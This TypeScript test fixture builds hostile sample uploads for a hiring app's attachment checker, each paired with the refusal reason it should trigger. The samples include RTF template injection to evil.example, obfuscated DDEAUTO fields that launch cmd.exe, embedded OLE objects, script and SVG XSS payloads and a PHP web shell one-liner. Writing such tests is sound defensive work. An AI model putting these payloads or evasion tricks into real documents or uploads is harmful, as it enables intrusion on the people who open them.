import type { AttachmentRefusal } from '#domain/hiring/attachments.ts'
import type { HostileFile } from './upload-sample.ts'

const rtf = (content: string) => Buffer.from(`{\\rtf1\\ansi\\deff0 ${content}\\par Ich backe gern.}`, 'latin1')
const field = (instruction: string) => rtf(`{\\field{\\*\\fldinst ${instruction}}{\\fldrslt x}}`)

const linked: Record<string, Buffer> = {
  'a template from the web': rtf('{\\*\\template https://evil.example/x.dotm}'),
  'a template in hexadecimal': rtf(
    `{\\*\\template ${[...Buffer.from('http://evil.example')].map((byte) => `\\'${byte.toString(16)}`).join('')}}`,
  ),
  'a template from another computer': rtf('{\\*\\template \\\\\\\\evil\\\\share\\\\x.dotm}'),
  'a template in Unicode': rtf(
    `{\\*\\template ${[...'http://evil'].map((letter) => `\\u${letter.charCodeAt(0)}?`).join('')}}`,
  ),
  DDEAUTO: field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'),
  'DDE in groups': field('{DD}{\\b E}{ cmd}'),
  'DDE in hexadecimal': field("\\'44\\'44\\'45AUTO cmd"),
  'DDE in Unicode': field('\\u68?\\u68?\\u69? cmd'),
  'DDE behind binary data': field('{\\*\\blob\\bin4 }}}}}DDEAUTO cmd'),
  'a field whose name is a field': field('{\\field{\\*\\fldinst QUOTE 68 68 69}{\\fldrslt DDE}} cmd'),
  'a picture by a field': field(' INCLUDEPICTURE "https://evil.example/x.png"'),
  'a picture of a shape': rtf('{\\shp{\\*\\shpinst{\\sp{\\sn pibName}{\\sv https://evil.example/x.png}}}}'),
  'another document': rtf('\\subdocument1'),
}

const objects: Record<string, Buffer> = {
  'an object': rtf('{\\object\\objemb{\\*\\objclass Package}{\\*\\objdata 0105}}'),
  'an object that updates itself': rtf('{\\object\\objautlink\\objupdate{\\*\\objdata 01}}'),
  'an object in capitals': rtf('{\\OBJECT\\OBJEMB}'),
  'an object without its data': rtf('{\\*\\objclass Word.Document.8}'),
  'an object behind an unknown destination': rtf('{\\*\\whatever{\\objdata 01}}'),
  HTML: rtf('\\fromhtml1{\\*\\htmltag64 <script>}'),
  'an object as custom data': rtf(
    `{\\*\\datastore 0105000002000000${Buffer.from('\x11\0\0\0MSComctlLib.Toolbar', 'latin1').toString('hex')}}`,
  ),
}

const plain = rtf('')
const others: [what: string, bytes: Buffer, reason: AttachmentRefusal][] = [
  ['HTML after the end', Buffer.concat([plain, Buffer.from('<script>alert(1)</script>')]), 'fileHasExtraData'],
  ['a group that does not end', plain.subarray(0, -1), 'fileBroken'],
  ['a hundred thousand groups', rtf('{'.repeat(100_000) + '}'.repeat(100_000)), 'fileTooComplex'],
]

const html = '<!DOCTYPE html><html><body><script>alert(1)</script></body></html>'

const texts: [what: string, name: string, bytes: Buffer, reason: AttachmentRefusal][] = [
  ['a page as a PDF', 'a.pdf', Buffer.from(html), 'fileTypeRefused'],
  ['a page as text', 'a.txt', Buffer.from(html), 'fileTypeRefused'],
  ['a page in UTF-16', 'a.txt', Buffer.from(`\ufeff${html}`, 'utf16le'), 'fileTypeRefused'],
  ['a page at the end of a long text', 'a.txt', Buffer.from(`${'Hallo '.repeat(20_000)}< ScRiPt >`), 'fileTypeRefused'],
  [
    'an SVG as text',
    'a.txt',
    Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
    'fileTypeRefused',
  ],
  ['PHP as text', 'a.txt', Buffer.from('<?php system($_GET[0]);'), 'fileTypeRefused'],
  ['rich text as text', 'a.txt', Buffer.concat([Buffer.from('\n'), plain]), 'fileTypeRefused'],
  ['a program as text', 'a.txt', Buffer.from('\x7fELF\x02\x01\x01\0'), 'fileTypeRefused'],
  ['a program as a PDF', 'a.pdf', Buffer.from('MZ\x90\0\x03\0\0\0'), 'fileTypeRefused'],
  ['a PDF inside of text', 'a.txt', Buffer.from('Hallo\n%PDF-1.7\n1 0 obj<</JS(x)>>endobj\n%%EOF'), 'fileHasExtraData'],
]

export const createHostileTexts = (): HostileFile[] => {
  const toRtf = (what: string, bytes: Buffer, reason: AttachmentRefusal): HostileFile => ({
    what: `rtf: ${what}`,
    name: 'Anschreiben.rtf',
    bytes,
    reason,
  })
  return [
    ...Object.entries(linked).map(([what, bytes]) => toRtf(what, bytes, 'fileHasLinkedContent')),
    ...Object.entries(objects).map(([what, bytes]) => toRtf(what, bytes, 'fileHasObjects')),
    ...others.map(([what, bytes, reason]) => toRtf(what, bytes, reason)),
    ...texts.map(([what, name, bytes, reason]) => ({ what: `text: ${what}`, name, bytes, reason })),
  ]
}
